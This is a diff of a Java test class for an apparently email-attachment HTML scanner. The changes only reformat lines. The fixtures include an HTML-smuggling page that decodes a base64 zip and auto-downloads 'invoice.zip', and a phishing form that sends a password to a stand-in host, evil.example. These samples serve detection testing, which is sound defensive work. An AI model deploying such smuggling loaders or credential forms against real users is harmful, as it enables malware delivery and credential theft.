@@ -20,22 +20,27 @@ class HtmlAnalyzerTest {
 
     @Test
     void anHtmlAttachmentWithScriptIsSuspicious() {
-        Report report = scanFile("invoice.html", Samples.text("<html><body><script>document.write('x')</script></body></html>"));
+        Report report = scanFile(
+                "invoice.html", Samples.text("<html><body><script>document.write('x')</script></body></html>"));
         assertTrue(codes(report).contains("html.script"));
         assertEquals(Verdict.SUSPICIOUS, report.verdict());
     }
 
     @Test
     void structuredDataScriptsInAnHtmlBodyStayClean() {
-        byte[] mail = MimeBuilder.mail().html("<html><head><script type=\"application/ld+json\">{\"@type\":\"Order\"}</script></head>"
-                + "<body><p>Your order shipped.</p><a href=\"https://shop.example/track\">track</a></body></html>").build();
+        byte[] mail = MimeBuilder.mail()
+                .html(
+                        "<html><head><script type=\"application/ld+json\">{\"@type\":\"Order\"}</script></head>"
+                                + "<body><p>Your order shipped.</p><a href=\"https://shop.example/track\">track</a></body></html>")
+                .build();
         Report report = scanMail(mail);
         assertEquals(Verdict.CLEAN, report.verdict(), codes(report).toString());
     }
 
     @Test
     void smuggledPayloadsAreDecodedAndScanned() {
-        String zip = Base64.getEncoder().encodeToString(Archives.zip(Archives.files("invoice.js", "WScript.Echo(1);\n// " + noise(3000))));
+        String zip = Base64.getEncoder()
+                .encodeToString(Archives.zip(Archives.files("invoice.js", "WScript.Echo(1);\n// " + noise(3000))));
         String page = "<html><body><script>var b=atob('" + zip + "');var u=new Uint8Array(b.length);"
                 + "var blob=new Blob([u]);var a=document.createElement('a');a.href=URL.createObjectURL(blob);"
                 + "a.download='invoice.zip';a.click();</script></body></html>";
@@ -57,7 +62,9 @@ class HtmlAnalyzerTest {
 
     @Test
     void credentialFormsInAttachmentsAreFlagged() {
-        Report report = scanFile("login.htm", Samples.text("<form action=\"https://evil.example/p\"><input type=\"password\" name=\"p\"></form>"));
+        Report report = scanFile(
+                "login.htm",
+                Samples.text("<form action=\"https://evil.example/p\"><input type=\"password\" name=\"p\"></form>"));
         assertTrue(codes(report).contains("html.password-form"));
         assertFalse(codes(report).contains("html.script"));
     }
